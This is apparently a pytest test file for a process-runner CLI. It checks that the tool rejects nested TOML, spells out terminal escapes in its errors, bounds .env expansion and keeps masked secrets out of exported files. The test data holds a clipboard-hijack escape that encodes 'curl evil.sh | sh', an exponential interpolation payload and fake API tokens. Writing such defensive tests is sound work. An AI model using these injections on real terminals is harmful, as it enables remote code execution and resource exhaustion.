"""The real ``tuirunner`` command against the breakages of issue 24 ("Hardening, round two"):
deeply nested TOML, escapes through error messages, env-file interpolation that would exhaust
memory, settings without floors."""

import re
import time

import pytest

from tests.helpers import run_cli, write_files

DEEP = "[" * 900 + "]" * 900


@pytest.mark.parametrize(
    "command", [[], ["check"], ["env"], ["run", "true"], ["export", "systemd", "out"]]
)
def test_deeply_nested_toml_is_one_line_in_every_command(tmp_path, command):
    write_files(
        tmp_path,
        {"Procfile": "web: true\n", "pyproject.toml": f'[project]\nname = "x"\nx = {DEEP}\n'},
    )
    result = run_cli(command, tmp_path, timeout=30)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr and "RecursionError" not in result.stderr
    assert result.stderr.strip().splitlines() == [
        "tuirunner: error: pyproject.toml: invalid TOML: nested too deeply"
    ]


OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # sets the clipboard to `curl evil.sh | sh`
OSC2 = "\x1b]2;pwned\x07"  # retitles the terminal


def _spelled_only(output: str) -> None:
    assert "\x1b" not in output and "\x07" not in output, repr(output)
    assert "\\x1b]52;c;" in output or "\\x1b]2;" in output, repr(output)


def test_a_settings_value_with_escapes_is_spelled_out_in_the_error(tmp_path):
    write_files(
        tmp_path,
        {
            "Procfile": "web: true\n",
            "pyproject.toml": '[tool.tuirunner]\nprocfile = "P\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g='
            '\\u0007\\u001b]2;pwned\\u0007"\n',
        },
    )
    for command in (["check"], [], ["export", "systemd", "out"]):
        result = run_cli(command, tmp_path)
        assert result.returncode == 1
        _spelled_only(result.stderr)


@pytest.mark.parametrize(
    "args",
    [
        ["check", "-f", f"Procfile{OSC52}{OSC2}"],
        ["check", "-d", f"dir{OSC52}{OSC2}"],
        ["ps", "-d", f"dir{OSC2}"],
        ["logs", "-d", f"dir{OSC2}"],
        ["check", "-e", f".env{OSC2}"],
    ],
)
def test_paths_from_the_command_line_are_spelled_out_in_errors(tmp_path, args):
    write_files(tmp_path, {"Procfile": "web: true\n"})
    (tmp_path / f"dir{OSC2}").mkdir()
    result = run_cli(args, tmp_path)
    assert result.returncode != 0
    _spelled_only(result.stdout + result.stderr)


def _doubling_env(lines: int) -> str:
    """``A1=${A0}${A0}…`` (ten references a line): A9 would be 50 x 10**9 bytes."""
    text = ["A0=" + "x" * 46]
    text += [f"A{i}=" + f"${{A{i - 1}}}" * 10 for i in range(1, lines + 1)]
    return "\n".join(text) + "\n"


@pytest.mark.parametrize("command", [["check"], ["env"], ["env", "--json"], ["run", "true"], []])
def test_env_interpolation_is_bounded_while_values_are_built(tmp_path, command):
    write_files(tmp_path, {"Procfile": "web: true\n", ".env": _doubling_env(9)})
    started = time.monotonic()
    result = run_cli(command, tmp_path, timeout=30)
    assert time.monotonic() - started < 10
    assert result.returncode == 1
    assert ".env:5: A4 would expand to more than 131,072 bytes" in result.stderr


def test_the_whole_expanded_environment_is_bounded(tmp_path):
    # Each variable stays under the per-variable limit; together they pass ARG_MAX.
    lines = ["B0=" + "y" * 1000, "B1=" + "${B0}" * 100]  # ~100 KB
    lines += [f"C{i}=${{B1}}" for i in range(200)]  # 200 x 100 KB = 20 MB
    write_files(tmp_path, {"Procfile": "web: true\n", ".env": "\n".join(lines) + "\n"})
    result = run_cli(["check"], tmp_path, timeout=30)
    assert result.returncode == 1
    assert re.search(
        r"\.env:\d+: C\d+ would make the environment larger than [\d,]+ bytes", result.stderr
    )


@pytest.mark.parametrize(
    ("settings", "message"),
    [
        (
            "[processes.web]\nautorestart = 'always'\nbackoff = { initial = 1e-300, max = 1e-300 }",
            "processes.web.backoff.initial: must be from 0.05 to 86400 (seconds), got 1e-300",
        ),
        (
            "[processes.web]\nbackoff = { reset_after = 1e308 }",
            "processes.web.backoff.reset_after: must be at most 86400 (seconds), got 1e+308",
        ),
        (
            "[processes.web]\nlog_file = 'web.log'\nlog_max_bytes = 1",
            "processes.web.log_max_bytes: must be from 65536 to 1099511627776, got 1",
        ),
        (
            "[processes.web]\nlog_file = 'web.log'\nlog_backups = 1000",
            "processes.web.log_backups: must be from 0 to 100, got 1000",
        ),
        ("timeout = 1e308", "timeout: must be at most 3600 (seconds), got 1e+308"),
        (
            "[processes.web]\ntimeout = 3601",
            "processes.web.timeout: must be at most 3600 (seconds)",
        ),
        ("scrollback = 1000000000000", "scrollback: must be from 1 to 1000000, got 1000000000000"),
        (
            "[processes.web]\nready = { port = 80, interval = 0.001 }",
            "processes.web.ready.interval: must be from 0.05 to 60 (seconds), got 0.001",
        ),
        (
            "[processes.web]\nready = { port = 80, timeout = 1e9 }",
            "processes.web.ready.timeout: must be at most 3600 (seconds), got 1000000000.0",
        ),
    ],
)
def test_every_numeric_setting_has_a_range_checked_by_check(tmp_path, settings, message):
    write_files(tmp_path, {"Procfile": "web: true\n", "tuirunner.toml": settings + "\n"})
    result = run_cli(["check"], tmp_path)
    assert result.returncode == 1
    assert f"tuirunner: error: tuirunner.toml: {message}" in result.stderr


def test_scrollback_option_has_the_settings_range(tmp_path):
    write_files(tmp_path, {"Procfile": "web: true\n"})
    result = run_cli(["--scrollback", "1000000000000", "check"], tmp_path)
    assert result.returncode == 2
    assert "must be from 1 to 1000000" in result.stderr


LEAKED = {
    "MAPS": "AIza" + "SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q",
    "HF": "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh",
    "NPMRC": "npm_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "DO": "dop_v1_" + "0123456789abcdef" * 4,
    "SHOP": "shpat_" + "0123456789abcdef" * 2,
    "MAIL": "key-" + "0123456789abcdef" * 2,
    "OAUTH_CLIENT": "GOCSPX-" + "AbCdEfGhIjKlMnOpQrStUvWxYz12",
    "HOOK": "https://discord.com/api/webhooks/123456789012345678/" + "AbCdEfGh" * 8,
    "HEADER": "Bearer " + "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789",
    "DATABASE_URL": "postgres://app:s3cr/et@db/app",
}


@pytest.mark.parametrize("fmt", ["systemd", "kubernetes", "compose", "supervisord"])
def test_what_env_masks_export_never_writes_into_a_world_readable_file(tmp_path, fmt):
    env = "".join(f"{name}={value}\n" for name, value in LEAKED.items())
    write_files(tmp_path, {"Procfile": "web: python -m http.server $PORT\n", ".env": env})
    (tmp_path / "logs").mkdir()
    extra = {"supervisord": ["--log", str(tmp_path / "logs")], "kubernetes": ["--image", "a:1"]}
    result = run_cli(["export", fmt, "out", *extra.get(fmt, [])], tmp_path)
    assert result.returncode == 0, result.stderr
    for path in (tmp_path / "out").iterdir():
        if path.stat().st_mode & 0o044:  # readable by others than the owner
            text = path.read_text()
            for name, value in LEAKED.items():
                secret = "s3cr/et" if name == "DATABASE_URL" else value
                assert secret not in text, (path.name, name)
